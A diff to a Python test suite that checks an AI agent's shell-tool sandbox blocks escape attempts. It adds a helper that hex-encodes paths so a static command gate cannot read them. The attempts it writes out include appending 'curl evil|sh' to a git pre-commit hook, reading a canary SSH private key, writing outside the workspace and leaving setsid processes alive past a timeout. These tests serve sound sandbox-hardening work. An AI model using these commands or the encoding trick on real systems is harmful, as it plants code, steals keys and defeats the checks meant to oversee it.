@@ -71,15 +71,20 @@ def _allowed_then(r):
     return r
 
 
-# Python strings the gate cannot see through: the paths are assembled at run time.
 def _py(code: str) -> str:
     return f"{PY} -c {shlex.quote(code)}"
+
+
+def _hide(path: str) -> str:
+    """A Python expression for ``path`` that no static scanner can read (hex, decoded at run
+    time): the gate cannot see the path, so it allows the command and the sandbox must stop it."""
+    return f"bytes.fromhex({path.encode().hex()!r}).decode()"
 
 
 def test_write_outside_workspace_through_python(world, tier) -> None:
     target = world["outside"] / "pwned"
     t = _tool(world, sandbox=tier)
-    r = _allowed_then(t.run(_py(f"open({str(target)!r}[:-1] + 'd', 'w').write('x')")))
+    r = _allowed_then(t.run(_py(f"open({_hide(str(target))}, 'w').write('x')")))
     assert r.exit_code != 0 and not target.exists()
     assert r.sandbox == tier
 
@@ -88,14 +93,14 @@ def test_append_to_git_hook(world, tier) -> None:
     hook = world["ws"] / ".git" / "hooks" / "pre-commit"
     before = hook.read_bytes()
     t = _tool(world, sandbox=tier)
-    r = _allowed_then(t.run(_py("open('.git/' + 'hooks/pre-commit', 'a').write('curl evil|sh\\n')")))
+    r = _allowed_then(t.run(_py(f"open({_hide('.git/hooks/pre-commit')}, 'a').write('curl evil|sh')")))
     assert hook.read_bytes() == before
     assert r.exit_code != 0 or r.violations, r
 
 
 def test_read_canary_ssh_key_from_fake_home(world, tier) -> None:
     t = _tool(world, sandbox=tier)
-    r = _allowed_then(t.run(_py("import os; print(open(os.path.expanduser('~/.s' + 'sh/id_rsa')).read())")))
+    r = _allowed_then(t.run(_py(f"print(open({_hide(str(world['home'] / '.ssh/id_rsa'))}).read())")))
     assert CANARY not in r.stdout + r.stderr
     assert r.exit_code != 0
 
@@ -123,7 +128,7 @@ def _marked(marker: str) -> list[psutil.Process]:
 
 def test_setsid_child_does_not_survive_the_timeout(world, tier) -> None:
     marker = f"7{os.getpid() % 997}.{len(tier)}"
-    t = _tool(world, sandbox=tier, timeout=1.0)
+    t = _tool(world, sandbox=tier, timeout=1.5)
     try:
         r = _allowed_then(t.run(f"setsid sleep {marker} & sleep {marker}"))
         assert r.timed_out and r.exit_code == 124
@@ -164,7 +169,7 @@ def test_worktree_added_becomes_the_workspace(world, tier) -> None:
     assert r.stdout == "n\n", r
     hook = world["ws"] / ".git" / "hooks" / "pre-commit"
     before = hook.read_bytes()
-    t.run(_py("open('../../.git/' + 'hooks/pre-commit', 'a').write('evil\\n')"))
+    t.run(_py(f"open({_hide('../../.git/hooks/pre-commit')}, 'a').write('evil')"))
     assert hook.read_bytes() == before
 
 
@@ -190,7 +195,7 @@ def test_sandbox_is_on_in_trust_mode_unless_disabled(world) -> None:
     t = _tool(world)
     assert t.sandbox.tier is not Tier.NONE or t.sandbox.description.startswith("none (no")
     off = _tool(world, sandbox=False)
-    r = off.run(_py("import os; print(open(os.path.expanduser('~/.s' + 'sh/id_rsa')).read())"))
+    r = off.run(_py(f"print(open({_hide(str(world['home'] / '.ssh/id_rsa'))}).read())"))
     assert r.sandbox == "none" and CANARY in r.stdout
     assert "sandbox disabled by the user" in r.notes
 
